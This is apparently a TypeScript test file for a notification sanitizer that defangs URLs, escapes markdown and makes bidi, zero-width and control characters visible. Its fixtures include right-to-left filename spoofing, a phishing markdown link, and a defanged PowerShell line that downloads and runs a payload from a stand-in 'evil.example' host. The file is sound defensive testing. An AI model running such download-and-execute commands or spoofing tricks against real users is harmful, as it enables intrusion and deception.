import fc from 'fast-check';
import { defangUrls, escapeMarkdown, neutralizeText, safeText, truncateText } from '../../../shared/notify/escape';
import { HOSTILE } from '../../support/notifyFixtures';

describe('neutralizeText', () => {
  test('shows bidi overrides and zero-width characters as visible markers', () => {
    expect(neutralizeText(HOSTILE.rtl)).toBe('invoice[U+202E]exe.pdf');
    expect(neutralizeText(HOSTILE.zeroWidth)).toBe('mal[U+200B]ware[U+FEFF]');
    expect(neutralizeText(HOSTILE.tags)).toBe('hidden[U+E0041][U+E0042]text');
  });

  test('replaces control characters, keeps line breaks visible, repairs lone surrogates', () => {
    expect(neutralizeText(HOSTILE.controls)).toBe('a[U+0000]b[U+0007]c[U+001B]d[U+007F]e ↵ f');
    expect(neutralizeText('one\r\ntwo\n\nthree\u2028four')).toBe('one ↵ two ↵ three ↵ four');
    expect(neutralizeText(HOSTILE.surrogate)).toBe('lone \uFFFD surrogate');
  });

  test('defangs urls so clients cannot auto-link them', () => {
    expect(neutralizeText(HOSTILE.url)).toBe('powershell -c iwr https[:]//evil.example/payload.ps1 | iex; start www[.]evil.example');
    expect(defangUrls('HTTP://A ftp://b WWW.c.com')).toBe('HTTP[:]//A ftp[:]//b WWW[.]c.com');
  });

  test('output never contains a scheme separator, a bidi control or a C0 control', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const out = neutralizeText(s);
        expect(out).not.toContain('://');
        // eslint-disable-next-line no-control-regex -- looking for control characters is the point
        expect(out).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]/);
        expect(out).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
      }),
    );
  });
});

describe('escapeMarkdown', () => {
  test('escapes every markdown special and <', () => {
    expect(escapeMarkdown(HOSTILE.link)).toBe('\\[click\\]\\(https\\[:\\]//evil.example/phish\\)');
    expect(escapeMarkdown(HOSTILE.mention)).toBe('\\<at\\>Security Team\\</at\\>');
    expect(escapeMarkdown(HOSTILE.bold)).toBe('\\*\\*bold\\*\\* \\_\\_under\\_\\_ \\_it\\_ \\~\\~strike\\~\\~');
    expect(escapeMarkdown('a|b!c+d-e#f>g`h{i}j\\k')).toBe('a\\|b\\!c\\+d\\-e\\#f\\>g\\`h\\{i\\}j\\\\k');
  });

  test('a leading number cannot start an ordered list', () => {
    expect(escapeMarkdown('1. first')).toBe('1\\. first');
    expect(escapeMarkdown('version 1.2')).toBe('version 1.2');
  });

  test('no unescaped special survives, for any input', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const out = escapeMarkdown(s);
        // Remove escaped pairs; what is left must contain no special character.
        const rest = out.replace(/\\[\\*_[\]()#>\-+!~|`<{}.]/g, '');
        expect(rest).not.toMatch(/[\\*_[\]()#>\-+!~|`<{}]/);
      }),
    );
  });
});

describe('truncateText / safeText', () => {
  test('cuts by code point, never inside a surrogate pair, and says how much was cut', () => {
    expect(truncateText('😀😀😀😀', 2)).toBe('😀😀… (+2 chars)');
    expect(truncateText('short', 10)).toBe('short');
    expect(truncateText('anything', 0)).toBe('');
  });

  test('neutralizes before truncating (markers count towards the limit)', () => {
    expect(safeText('\u202E'.repeat(5), 8)).toBe('[U+202E]… (+32 chars)');
    expect(safeText(null, 10)).toBe('');
  });
});
